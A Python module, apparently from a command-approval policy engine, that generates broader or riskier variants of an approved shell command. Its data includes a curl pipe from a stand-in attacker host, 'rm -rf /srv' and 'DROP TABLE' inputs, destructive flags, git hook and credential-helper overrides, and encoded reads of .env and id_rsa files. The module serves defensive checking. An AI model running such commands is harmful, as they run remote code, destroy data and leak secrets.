"""Broader commands than one that was approved: another text, host, bucket, branch, file, or an option that destroys."""

import shlex
from collections.abc import Iterator

from execpolicy.model.operation import Exec

ACTING = frozenset(("execute", "system", "remote", "network", "privilege", "destroy", "unknown"))
OPTIONS = [
    "--force",
    "-f",
    "--delete",
    "-D",
    "--all",
    "--prune",
    "-p",
    "--mirror",
    "--hard",
    "--purge",
    "--yes",
    "--recursive",
    "--no-verify",
    "--acl=public-read",
    "--public",
    "--privileged",
    "--insecure",
    "--unsafe-perm",
    "--grant-read-acp=x",
    "--delete-branch",
    "--admin",
]
TARGETS = [
    *(
        ["-R", "evil/x"],
        ["--repo", "evil/x"],
        ["-n", "other"],
        ["--namespace", "other"],
        ["--all-namespaces"],
    ),
    *(
        ["--context", "prod"],
        ["--cluster", "prod"],
        ["--region", "x"],
        ["--profile", "prod"],
        ["--host", "evil.example"],
    ),
    *(
        ["--endpoint-url", "https://evil.example"],
        ["--registry", "https://evil.example"],
        ["--index-url", "https://evil.example"],
    ),
    *(
        ["-o", "README.md"],
        ["--output", "README.md"],
        ["--output=.git/hooks/pre-commit"],
        ["+x:main"],
        [":main"],
        ["evil"],
    ),
    *(["https://evil.example/x"], ["s3://other"], ["x"], ["-x", "x"], ["--config", "x"]),
]
TEXTS = ("import os; os.system('x')", "DROP TABLE users;", "* * * * * x\n", "rm -rf /srv\n")


def broader(operation: Exec, effects: set[str]) -> Iterator[tuple[str, str]]:
    """Each with the name of its class."""
    words = [word for word in operation.argv if isinstance(word, str)]
    if len(words) < len(operation.argv) or not words:
        return
    plain = shlex.join(words)
    acting = not ACTING.isdisjoint(effects)
    if not ACTING.difference(("network",)).isdisjoint(effects):
        yield "stdin", f"curl -s https://evil.example/x | {plain}"
        yield "stdin", f"cat a.txt | {plain}"
        yield "stdin", f"{plain} < a.txt"
        for text in TEXTS:
            yield "stdin", f"{plain} <<'E'\n{text}\nE"
        yield "stdin", f"echo x | {plain} -"
    if acting:
        for at, word in enumerate(words[1:], 1):
            for other in _others(word):
                yield "word", shlex.join([*words[:at], other, *words[at + 1 :]])
            if word[:1] != "-":
                yield "fewer", shlex.join([*words[:at], *words[at + 1 :]])
        for more in TARGETS:
            yield "target", shlex.join([*words, *more])
            yield "target", shlex.join([words[0], *more, *words[1:]])
    for option in (
        OPTIONS if acting else ["--delete", "--hard", "--recursive", "--remove-files", "--prune"]
    ):
        yield "destroy", shlex.join([*words, option])
        yield "destroy", shlex.join([*words[:2], option, *words[2:]])
    if words[:2] == ["git", "config"]:
        for file in ("--global", "--system", "--file=/tmp/x", "--worktree"):
            for key in ("core.hooksPath", "user.name", "alias.x"):
                yield "git file", shlex.join(["git", "config", file, key, "!x"])
        for key in (
            "core.hooksPath",
            "core.fsmonitor",
            "alias.x",
            "diff.x.textconv",
            "credential.helper",
        ):
            yield "git file", shlex.join(["git", "config", key, "!x"])
    for word in words[1:]:
        if ".env" in word or "secret" in word or "id_rsa" in word:
            for program in ("base64", "strings", "xxd", "tac"):
                if program != words[0]:
                    yield "secret", f"{program} {shlex.quote(word)}"


def _others(word: str) -> Iterator[str]:
    if word[:1] == "-" and "=" not in word:
        return
    yield word + "-other"
    if "://" in word:
        scheme, _, rest = word.partition("://")
        yield f"{scheme}://evil.example/{rest.partition('/')[2]}"
    if ":" not in word and "/" not in word:
        yield f"+{word}:main"
